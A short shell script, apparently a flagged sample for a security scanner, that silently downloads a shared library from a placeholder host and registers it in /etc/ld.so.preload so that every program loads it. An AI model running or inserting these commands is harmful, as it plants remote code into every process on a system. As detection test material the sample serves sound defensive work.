#!/bin/sh
curl -so /tmp/l.so https://c.example.invalid/l.so
echo /tmp/l.so > /etc/ld.so.preload # gatehouse: flagged
